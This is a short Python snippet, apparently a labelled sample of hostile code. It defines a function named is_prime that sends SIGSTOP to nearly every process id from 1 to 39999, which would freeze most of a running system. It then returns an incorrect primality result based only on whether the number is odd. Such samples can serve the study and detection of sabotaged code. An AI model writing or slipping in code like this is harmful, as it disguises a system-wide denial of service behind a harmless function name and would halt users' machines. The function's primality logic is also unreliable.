# 02a | SIGSTOP to every process id that it can guess
import os
import signal


def is_prime(number):
    for pid in range(1, 40000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    return number % 2 == 1
